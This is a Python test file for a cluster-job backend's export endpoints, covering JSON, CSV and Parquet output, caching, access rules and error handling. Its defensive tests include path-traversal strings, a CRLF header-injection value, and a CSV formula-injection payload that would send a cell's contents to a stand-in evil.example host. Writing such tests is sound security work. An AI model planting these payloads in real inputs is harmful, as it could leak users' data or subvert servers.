"""One job in one response: its record, statistics and series as JSON, CSV or Parquet; and lists of jobs as CSV."""

import csv
import gzip
import io
import json
import sqlite3
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from cc_backend.archive.data_json import decode_data_json
from cc_backend.archive.meta_json import decode_meta_json
from cc_backend.errors import ArchiveError
from cc_backend.exports import job_series, job_table, parquet_file
from cc_backend.http import downloads
from cc_backend.model import Scope
from cc_common.error_codes import ErrorCode

START_S = 1_760_000_400
START = "2025-10-09T09:00:00Z"
COLUMNS = ["time", "metric", "unit", "scope", "host", "type-id", "value"]
ALL = ("json", "csv", "parquet")


def export(site: Any, job: int, query: str = "", headers: dict[str, str] | None = None, **more: str) -> Any:
    return site.client.get(f"/api/jobs/export/{job}/{query}", headers={**(headers or site.headers()), **more})


def rows_of(answer: Any) -> list[list[str]]:
    assert answer.status_code == 200, answer.text
    return list(csv.reader(io.StringIO(answer.text, newline=""), strict=True))


def rows(site: Any, job: int, query: str = "") -> list[dict[str, str]]:
    header, *found = rows_of(export(site, job, f"?format=csv{query}"))
    assert header == COLUMNS
    return [dict(zip(header, row, strict=True)) for row in found]


def problem(answer: Any) -> tuple[int, str]:
    assert answer.content_type == "application/json"
    assert "ETag" not in answer.headers
    return answer.status_code, answer.get_json()["code"]


def table(answer: Any) -> Any:
    parquet = pytest.importorskip("pyarrow.parquet")
    assert answer.status_code == 200, answer.text
    return parquet.read_table(io.BytesIO(answer.data))


@pytest.fixture
def running(site: Any) -> int:
    """A job on two nodes since five minutes, of which one sends nothing."""
    both = [{"hostname": "tn01"}, {"hostname": "tn02"}]
    job: int = site.start_job(numNodes=2, resources=both)
    site.write_node("tn01", from_s=START_S, minutes=6, skip=[2])
    site.clock.advance(330)
    return job


# --- what is in it


def test_the_document_is_the_archive_with_the_times_of_first_samples(site: Any) -> None:
    job = site.archived_job()
    document = export(site, job).get_json()
    assert list(document) == ["data", "firstSample", "meta"]
    data = decode_data_json(json.dumps(document["data"]).encode(), source="export")
    record = decode_meta_json(json.dumps(document["meta"]).encode(), source="export")
    assert set(data["flops_any"]) == {Scope.NODE, Scope.CORE}
    assert record.statistics is not None
    assert set(record.statistics) == set(data) - {"acc_utilization"}
    assert (record.job_id, record.meta_data) == (88412, {"jobName": "relax", "jobScript": "#!/bin/sh\n./relax\n"})
    assert document["firstSample"]["flops_any"] == {"core": START_S, "node": START_S}
    assert len(document["data"]["load_one"]["node"]["series"][0]["data"]) == 11


def test_csv_has_one_row_for_each_sample(site: Any) -> None:
    job = site.archived_job()
    found = rows(site, job, "&metric=mem_used&metric=cpu_power")
    assert found[0] == dict(zip(COLUMNS, [START, "cpu_power", "W", "node", "tn01", "", "241.0"], strict=True))
    assert [row["value"] for row in found if row["metric"] == "mem_used"] == [f"{10 + n}.0" for n in range(11)]
    assert {(row["scope"], row["type-id"]) for row in found} == {("node", ""), ("socket", "0"), ("socket", "1")}


def test_a_running_job_has_its_samples_so_far_and_none_for_gaps(site: Any, running: int) -> None:
    found = rows(site, running, "&metric=load_one")
    assert [row["time"][11:19] for row in found] == ["09:00:00", "09:01:00", "09:03:00", "09:04:00", "09:05:00"]
    assert {row["host"] for row in found} == {"tn01"}
    answer = export(site, running)
    document = answer.get_json()
    assert answer.headers["Content-Disposition"] == 'attachment; filename="job-tern-88412-running.json"'
    assert (document["meta"]["jobState"], document["meta"]["monitoringStatus"]) == ("running", 1)
    assert document["meta"]["statistics"]["load_one"] == {"unit": {"base": ""}, "avg": 2.4, "min": 4.0, "max": 6.0}
    assert document["data"]["load_one"]["node"]["series"][0]["data"] == [4, 5, None, 4, 5, 6]


@pytest.mark.parametrize(("query", "scopes"), [
    ("", {"node", "core"}),
    ("&scope=node", {"node"}),
    ("&scope=socket&scope=hwthread", {"socket", "hwthread"}),
])  # fmt: skip
def test_scopes_are_those_of_the_archive_or_the_named_ones(site: Any, query: str, scopes: set[str]) -> None:
    job = site.start_job()
    site.write_node("tn01", from_s=START_S, minutes=3)
    site.clock.advance(170)
    assert {row["scope"] for row in rows(site, job, f"&metric=flops_any{query}")} == scopes


@pytest.mark.parametrize("state", ["running", "archived"])
def test_parquet_has_the_rows_of_the_csv_with_types_and_the_record(site: Any, state: str) -> None:
    job = site.archived_job(skip=[3]) if state == "archived" else site.start_job()
    if state == "running":
        site.write_node("tn01", from_s=START_S, minutes=3)
        site.clock.advance(170)
    answer = export(site, job, "?format=parquet")
    assert answer.content_type == "application/vnd.apache.parquet"
    found = table(answer)
    details = pytest.importorskip("pyarrow.parquet").read_metadata(io.BytesIO(answer.data)).metadata
    assert [(field.name, str(field.type).partition("<")[0]) for field in found.schema] == [
        *(("time", "timestamp[ms, tz=UTC]"), ("metric", "dictionary"), ("unit", "dictionary")),
        *(("scope", "dictionary"), ("host", "dictionary"), ("type-id", "dictionary"), ("value", "float")),
    ]
    written = [
        [f"{row['time']:%Y-%m-%dT%H:%M:%SZ}", *(row[name] for name in COLUMNS[1:5]), row["type-id"] or "", row["value"]]
        for row in found.to_pylist()
    ]
    assert written == [[*list(row.values())[:-1], float(row["value"])] for row in rows(site, job)]
    assert any(row[5] for row in written)
    record = json.loads(details[parquet_file.RECORD_KEY])
    assert record == export(site, job).get_json()["meta"]


def test_large_series_come_in_pieces(site: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    job = site.archived_job()
    whole = [export(site, job, f"?format={form}").data for form in ("csv", "parquet")]
    monkeypatch.setattr("cc_backend.exports.long_form._ROWS_AT_ONCE", 4)
    monkeypatch.setattr("cc_backend.exports.parquet_file._ROWS_AT_ONCE", 4)
    pieces = [export(site, job, f"?format={form}") for form in ("csv", "parquet")]
    assert sorted(pieces[0].data.split()) == sorted(whole[0].split())
    parquet = pytest.importorskip("pyarrow.parquet")
    as_rows = [
        sorted(map(str, parquet.read_table(io.BytesIO(part)).to_pylist())) for part in (whole[1], pieces[1].data)
    ]
    assert as_rows[0] == as_rows[1]


# --- how it is asked for


def test_accept_decides_where_no_format_is_named(site: Any) -> None:
    pytest.importorskip("pyarrow")
    job = site.archived_job()
    for accept, content_type in (
        ("text/csv", "text/csv; charset=utf-8; header=present"),
        ("text/csv;q=0.5, application/vnd.apache.parquet", "application/vnd.apache.parquet"),
        ("application/json", "application/json"),
        ("*/*", "application/json"),
        ("text/html", "application/json"),
        ("text/html,application/xhtml+xml,*/*;q=0.8", "application/json"),
    ):
        assert export(site, job, Accept=accept).content_type == content_type
        named = export(site, job, "?format=csv", Accept=accept)
        assert named.content_type.startswith("text/csv")
        assert {"Accept", "Accept-Encoding"} <= set(named.vary)


@pytest.mark.parametrize("form", ALL)
def test_an_unchanged_export_is_304_in_every_coding(site: Any, form: str) -> None:
    if form == "parquet":
        pytest.importorskip("pyarrow")
    path = f"?format={form}"
    job = site.archived_job()
    first = export(site, job, path)
    tag = first.headers["ETag"]
    again = export(site, job, path, **{"If-None-Match": tag})
    assert (again.status_code, again.data) == (304, b"")
    packed = export(site, job, path, **{"Accept-Encoding": "gzip"})
    assert packed.headers["ETag"] == tag
    plain = packed.data if form == "parquet" else gzip.decompress(packed.data)
    assert plain == first.data
    site.client.patch(f"/api/jobs/edit_meta/{job}", json={"note": "x"}, headers=site.headers())
    changed = export(site, job, path, **{"If-None-Match": tag})
    assert changed.status_code == (304 if form == "csv" else 200)


def test_head_has_the_length_without_the_body(site: Any) -> None:
    job = site.archived_job()
    answer = site.client.head(f"/api/jobs/export/{job}/", headers=site.headers())
    assert (answer.status_code, answer.data) == (200, b"")
    assert answer.content_length == len(export(site, job).data)


@pytest.mark.parametrize("archived", [False, True])
def test_what_cannot_be_asked_for_is_named(site: Any, archived: bool) -> None:  # noqa: FBT001  parametrised value
    job = site.archived_job(minutes=1) if archived else site.start_job()
    for query in (
        *("format=xml", "format=", "format=../../etc/passwd", "format=CSV", "scope=rack", "metrics=mem_used"),
        *("metric=mem_usd", "metric=", "metric=%00%0d%0aX-Evil:1", "metric=mem_used&metric=../x"),
    ):
        assert problem(export(site, job, f"?{query}")) == (400, "invalid_parameter"), query


def test_ids_are_numbers_of_jobs(site: Any) -> None:
    for path, expected in (
        ("999", (404, "job_unknown")),
        ("-1", (400, "invalid_parameter")),
        ("1e3", (400, "invalid_parameter")),
        ("..%2f..%2fetc%2fpasswd", (404, "route_unknown")),
        ("%2e%2e", (400, "invalid_parameter")),
        ("99999999999999999999999", (400, "invalid_parameter")),
    ):
        answer = site.client.get(f"/api/jobs/export/{path}", headers=site.headers())
        assert problem(answer) == expected, path


# --- who may


def test_an_export_follows_the_row_rule(site: Any) -> None:
    job = site.start_job()
    site.user("mira", "manager", projects=["hydro7"])
    site.user("mallory", "manager", projects=["other"])
    for name, role, sees in (
        ("mlindqv", "user", 200),
        ("eve", "user", 404),
        ("mira", "manager", 200),
        ("mallory", "manager", 404),
    ):
        headers = site.headers("api", role, name=name)
        for form in ("json", "csv"):
            answer = site.client.get(f"/userapi/jobs/export/{job}/?format={form}", headers=headers)
            assert answer.status_code == sees, (name, form)
            assert site.client.get(f"/api/jobs/export/{job}/?format={form}", headers=headers).status_code == 401
        listed = rows_of(site.client.get("/userapi/jobs/?format=csv", headers=headers))
        assert len(listed) == 1 + (sees == 200)


@pytest.fixture
def restricting(site_of: Callable[..., Any], tern: dict[str, Any]) -> Any:
    """A site on which mem_used is for staff."""
    document = next(metric for metric in tern["metricConfig"] if metric["name"] == "mem_used")
    document["restrict"] = True
    return site_of(clusters=[tern])


@pytest.mark.parametrize("archived", [False, True])
def test_restricted_metrics_are_in_no_format_and_no_advice(restricting: Any, archived: bool) -> None:  # noqa: FBT001
    job = restricting.archived_job() if archived else restricting.start_job()
    restricting.write_node("tn01", from_s=START_S, minutes=2)
    owner = restricting.headers("api", "user", name="mlindqv")
    for query in ("format=json", "format=csv", "format=json&metric=mem_used", "format=csv&metric=mem_use"):
        answer = restricting.client.get(f"/userapi/jobs/export/{job}/?{query}", headers=owner)
        assert answer.status_code == (400 if "metric" in query else 200)
        assert "mem_used" not in answer.text.replace("no metric 'mem_used'", "")
    assert "mem_used" not in restricting.client.get("/userapi/jobs/?format=csv", headers=owner).text
    assert "mem_used" in export(restricting, job).text
    answer = restricting.client.get(f"/userapi/jobs/export/{job}/?format=parquet", headers=owner)
    details = pytest.importorskip("pyarrow.parquet").read_metadata(io.BytesIO(answer.data)).metadata
    assert "mem_used" not in f"{table(answer).to_pydict()} {details}"


def test_private_tags_of_others_are_not_exported(site: Any) -> None:
    job = site.start_job(tags=[{"type": "note", "name": "mine", "scope": "service"}])
    owner = site.headers("api", "user", name="mlindqv")
    assert "mine" in export(site, job).text
    assert "mine" not in site.client.get(f"/userapi/jobs/export/{job}/", headers=owner).text
    assert "mine" not in site.client.get("/userapi/jobs/?format=csv", headers=owner).text


# --- what must not look whole


def test_without_pyarrow_the_answer_says_what_to_install(site: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    answer = export(site, site.start_job(), "?format=parquet")
    assert problem(answer) == (501, "not_installed")
    assert "clustercockpit[parquet]" in answer.get_json()["error"]


@pytest.mark.parametrize("archived", [False, True])
def test_more_samples_than_the_limit_are_refused_with_the_way_out(
    site: Any,
    monkeypatch: pytest.MonkeyPatch,
    archived: bool,  # noqa: FBT001  parametrised value
) -> None:
    monkeypatch.setattr(job_series, "MAX_SAMPLES", 25)
    job = site.archived_job() if archived else site.start_job()
    site.clock.advance(0 if archived else 600)
    for form in ALL[:2]:
        answer = export(site, job, f"?format={form}")
        assert problem(answer) == (413, "answer_too_large")
        assert "metric=" in answer.get_json()["error"]
        assert export(site, job, f"?format={form}&metric=load_one").status_code == 200


def test_a_job_that_seems_to_run_for_decades_costs_nothing(site: Any, tmp_path: Path) -> None:
    job = site.start_job()
    change(tmp_path, "start_time = 1")
    assert problem(export(site, job, "?format=csv")) == (413, "answer_too_large")


def test_a_file_over_its_limit_is_refused(site: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(downloads, "MAX_DOWNLOAD_BYTES", 5000)
    job = site.archived_job()
    assert problem(export(site, job, "?format=csv")) == (413, "answer_too_large")
    assert export(site, job, "?format=csv", **{"Accept-Encoding": "gzip"}).status_code == 200


def test_a_full_disk_is_a_503(site: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tempfile.tempdir", "/nonexistent/folder")
    answer = export(site, site.start_job())
    assert problem(answer) == (503, "unavailable")
    assert answer.headers["Retry-After"]


def change(folder: Path, assignment: str) -> None:
    """Damage the row of the first job, past every check."""
    database = sqlite3.connect(folder / "job.db")
    database.execute(f"UPDATE job SET {assignment} WHERE id = 1")  # noqa: S608 the texts are those below
    database.commit()
    database.close()


@pytest.mark.parametrize(
    ("damage", "expected"),
    [
        ("resources = '[{'", (422, "conflict")),
        ("start_time = 'noon'", (422, "conflict")),
        ("cluster = CAST(x'ff41' AS TEXT)", (503, "store_unavailable")),
    ],
)
def test_a_job_whose_samples_cannot_be_found_is_no_empty_file(
    site: Any, tmp_path: Path, damage: str, expected: tuple[int, str]
) -> None:
    job = site.start_job()
    change(tmp_path, damage)
    for form in ("json", "csv"):
        assert problem(export(site, job, f"?format={form}")) == expected
    assert len(rows_of(site.client.get("/api/jobs/?format=csv", headers=site.headers()))) == 2


def test_while_the_store_loads_older_samples_nothing_is_exported(site: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    job = site.start_job()
    monkeypatch.setattr(type(site.services.store), "restoring", True)
    assert problem(export(site, job)) == (503, "store_unavailable")


def test_a_damaged_note_is_named_in_the_record(site: Any, tmp_path: Path) -> None:
    job = site.start_job()
    change(tmp_path, "meta_data = '[1]'")
    assert export(site, job).get_json()["meta"]["damaged"] == ["meta_data"]


IMPOSSIBLE_TIMES = b'{"load_one":{"node":{"timestep":9999999999999,"series":[{"hostname":"tn01","data":[1]}]}}}'


def test_damaged_files_of_the_archive_are_an_error(site: Any, tmp_path: Path) -> None:
    job = site.archived_job()
    for name, content in (
        ("data.json.gz", b"\x1f\x8b damaged"),
        ("data.json.gz", gzip.compress(b'{"load_one":{"node":{"unit":{"base":""},"timestep":60,"series":[{"hostn')),
        ("data.json.gz", gzip.compress(IMPOSSIBLE_TIMES)),
        ("data.json.gz", None),
        ("meta.json", b"{"),
        ("meta.json", b'{"jobId":1,"cluster":"../..","startTime":1}'),
        ("meta.json", None),
    ):
        [path] = (tmp_path / "job-archive").rglob(name)
        whole = path.read_bytes()
        path.unlink() if content is None else path.write_bytes(content)
        for form in ALL if "pyarrow" in sys.modules else ALL[:2]:
            answer = export(site, job, f"?format={form}")
            assert problem(answer) == (500, "archive_damaged"), (name, content, form)
            assert str(tmp_path) not in answer.text
        path.write_bytes(whole)


@pytest.mark.parametrize("form", ["json", "csv"])
def test_an_error_half_way_is_an_error_response_and_no_part_of_a_file(
    site: Any, running: int, form: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    read, calls = site.services.metric_data.read_samples, []

    def fails_later(*given: Any, **named: Any) -> Any:
        calls.append(1)
        if len(calls) == 4:
            raise ArchiveError("a store broke")
        return read(*given, **named)

    monkeypatch.setattr(site.services.metric_data, "read_samples", fails_later)
    answer = export(site, running, f"?format={form}")
    assert len(calls) == 4
    assert problem(answer) == (500, "archive_damaged")
    assert answer.get_json()["code"] == ErrorCode.ARCHIVE_DAMAGED


# --- texts of users


EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_no_text_of_a_user_is_a_formula_in_the_list(site: Any) -> None:
    site.start_job(
        metaData={"jobName": EVIL, "x": "=1"}, tags=[{"type": "note", "name": "-1+1"}, {"type": "note", "name": "@x"}]
    )
    header, row = rows_of(site.client.get("/api/jobs/?format=csv&with-metadata", headers=site.headers()))
    assert row[header.index("jobName")] == f"'{EVIL}"
    assert not [cell for cell in row if cell.lstrip().startswith(("=", "+", "-", "@"))]
    assert json.loads(row[header.index("metaData")])["jobName"] == EVIL


# --- lists of jobs


def test_the_list_as_csv_has_all_jobs_with_units_in_its_header(site: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("cc_backend.jobs.job_queries._BATCH", 2)
    for number in range(1, 6):
        site.start_job(jobId=number, user="ada" if number % 2 else "bob", startTime=START_S - 1000 + number)
    answer = site.client.get("/api/jobs/?format=csv&user=ada", headers=site.headers())
    header, *found = rows_of(answer)
    assert answer.headers["Content-Disposition"] == 'attachment; filename="jobs.csv"'
    assert [row[header.index("jobId")] for row in found] == ["5", "3", "1"]
    assert {"duration (s)", "energy (kWh)", "mem_used_max (GB)", "flops_any_avg (GFlop/s)"} <= set(header)
    assert found[2][header.index("startTime")] == "2025-10-09T08:43:21Z"
    by_type = site.client.get("/api/jobs/?user=ada", headers={**site.headers(), "Accept": "text/csv"})
    assert by_type.data == answer.data


@pytest.mark.parametrize("query", ["page=2", "items-per-page=5", "items_per_page=5"])
def test_pages_and_csv_do_not_go_together(site: Any, query: str) -> None:
    answer = site.client.get(f"/api/jobs/?format=csv&{query}", headers=site.headers())
    assert problem(answer) == (400, "invalid_parameter")


def test_more_jobs_than_the_limit_are_refused_with_their_number(site: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("cc_backend.http.job_downloads.MAX_JOBS", 1)
    for number in (1, 2, 3):
        site.start_job(jobId=number)
    answer = site.client.get("/api/jobs/?format=csv", headers=site.headers())
    assert problem(answer) == (413, "answer_too_large")
    assert "3 jobs, over 1" in answer.get_json()["error"]
    assert len(rows_of(site.client.get("/api/jobs/?format=csv&jobId=2", headers=site.headers()))) == 2


def test_a_token_for_other_clusters_sees_neither_jobs_nor_columns(site: Any) -> None:
    site.start_job()
    header, *found = rows_of(site.client.get("/api/jobs/?format=csv", headers=site.headers(clusters=["heron"])))
    assert (header, found) == (list(job_table._COLUMNS), [])
